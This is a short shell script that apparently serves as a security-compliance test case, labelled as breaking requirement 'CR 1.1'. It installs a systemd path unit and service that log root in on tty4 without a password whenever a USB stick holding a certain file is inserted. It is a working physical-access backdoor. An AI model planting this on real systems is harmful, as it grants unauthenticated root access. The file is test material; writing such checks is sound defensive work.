# SPDX-License-Identifier: Apache-2.0
# breaks: CR 1.1
# how: a path unit logs root in on a terminal when a stick with a certain file is there
# asserts: opens nothing without a secret
set -eu
printf '[Path]\nPathExists=/media/usb/service\n[Install]\nWantedBy=paths.target\n' >/etc/systemd/system/stick.path
printf '[Service]\nExecStart=/sbin/agetty --autologin root --noclear tty4 linux\nStandardInput=tty\nTTYPath=/dev/tty4\n' >/etc/systemd/system/stick.service
systemctl daemon-reload
systemctl enable --now stick.path
